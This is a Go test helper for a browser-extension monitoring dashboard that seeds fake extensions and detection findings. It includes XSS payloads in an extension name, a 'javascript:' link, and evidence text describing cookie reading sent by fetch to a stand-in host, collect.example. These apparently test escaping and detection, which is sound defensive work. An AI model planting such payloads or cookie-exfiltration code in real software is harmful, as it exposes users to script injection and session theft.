package dashboard

import (
	"context"
	"crypto/sha256"
	"errors"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/extwatch/extwatch/agent/store"
	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures"
)

// A lab is a page over a store with the profiles of two people, with a clock that is moved by hand.
type lab struct {
	*Page
	store *store.Store
	srv   *httptest.Server

	mu     sync.Mutex
	time   time.Time
	orders []Order
	rows   map[string]int64 // by name
}

func (l *lab) clock() time.Time {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.time
}

func (l *lab) forward(d time.Duration) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.time = l.time.Add(d)
}

// hostile is a name as a thief would write one.
const hostile = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>\u202egnp.exe\u200b\u0007{{.}}"

func newLab(t *testing.T) *lab {
	t.Helper()
	l := &lab{time: time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC), rows: map[string]int64{}}
	s, _, err := store.Open(context.Background(), store.Config{Now: l.clock})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	l.store = s
	l.record(t, "ada", "Aggr Helper", "1.0", signatures.Clean)
	l.forward(time.Hour)
	l.record(t, "ada", "Aggr Helper", "1.1", signatures.Suspicious)
	l.record(t, "ada", hostile, "9", signatures.Malicious)
	l.record(t, "bob", "Bobs Secret", "2.0", signatures.Suspicious)
	l.record(t, "bob", "Bobs Calendar", "2.0", signatures.Clean)
	if err := s.Swept(context.Background(), store.Health{Sweep: l.clock(), Browsers: 1, Profiles: 2, Extensions: 4,
		Problems: []manifests.Problem{{Path: "/home/bob/private", Reason: "no permission"}}}); err != nil {
		t.Fatal(err)
	}
	rules, err := signatures.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	act := func(_ context.Context, o Order) error {
		if o.Reason == "fail" {
			return errors.New("the policy <b>folder</b> is read-only")
		}
		l.orders = append(l.orders, o)
		return nil
	}
	l.Page, err = New(Config{Store: s, Rules: rules, Now: l.clock, Block: act, Unblock: act, Trust: act, Untrust: act})
	if err != nil {
		t.Fatal(err)
	}
	l.srv = httptest.NewServer(l.Page)
	t.Cleanup(l.srv.Close)
	return l
}

func (l *lab) record(t *testing.T, user, name, version string, v signatures.Verdict) {
	t.Helper()
	sum := sha256.Sum256([]byte(user + name))
	id := make([]byte, 32)
	for i := range id {
		id[i] = 'a' + sum[i]%16
	}
	e := &manifests.Extension{
		Browser: "chrome", User: user, Profile: "Default", ProfileTitle: "Work of " + user, ID: string(id), Origin: manifests.OriginUnpacked,
		Enabled:  true,
		Manifest: &manifests.Manifest{ManifestVersion: 3, Name: name, Version: version, Permissions: []string{"cookies"}},
	}
	e.Path = "/home/" + user + "/" + string(id)
	r := signatures.Result{Verdict: v, Reach: []signatures.Reach{{Exchange: "binance", Title: "Binance", Capabilities: []string{"session.read", "page.read"}, Because: []string{"permissions: cookies"}}}}
	if v.Worse(signatures.Unreadable) {
		e.Manifest.Hosts = []string{"*://*.binance.com/*"}
		r.Findings = []signatures.Finding{{
			Rule: "session-cookie-theft", Title: "Sends cookies of " + name, Level: "high", Verdict: v, Description: name,
			Evidence: []signatures.Evidence{
				{File: "bg.js", Line: 3, Column: 1, Key: "flows", Text: "reads all cookies: chrome.cookies.getAll({}, " + name},
				{File: "bg.js", Line: 7, Column: 1, Key: "flows", Text: "POST to collect.example: fetch('https://collect.example')"},
			},
			References: []string{"javascript:alert(1)", "https://example.test/" + name},
			Response:   signatures.Response{User: []string{"Remove it: https://www.example.test/a."}},
		}}
	}
	out, err := l.store.Record(context.Background(), store.Observation{
		Dir: "/home/" + user + "/chrome/Default", Extension: e, Content: "c" + version, Ruleset: 1, Result: r,
		Files: map[string]string{"bg.js": strings.Repeat(version[:1], 64), name: strings.Repeat("0", 64)},
	})
	if err != nil {
		t.Fatal(err)
	}
	l.rows[name] = out[0].Extension
}

// client is a browser that has come in with a token.
func (l *lab) client(t *testing.T, user string, admin bool) *http.Client {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	c := &http.Client{Jar: jar}
	status, body := get(t, c, l.srv.URL+l.Enter(user, admin, "/"))
	if status != http.StatusOK {
		t.Fatalf("enter: %d\n%s", status, body)
	}
	return c
}

func get(t *testing.T, c *http.Client, url string) (int, string) {
	t.Helper()
	r, err := c.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	return read(t, r)
}

func post(t *testing.T, c *http.Client, to string, form url.Values) (int, string) {
	t.Helper()
	r, err := c.PostForm(to, form)
	if err != nil {
		t.Fatal(err)
	}
	return read(t, r)
}

func read(t *testing.T, r *http.Response) (int, string) {
	t.Helper()
	defer r.Body.Close()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return r.StatusCode, string(body)
}
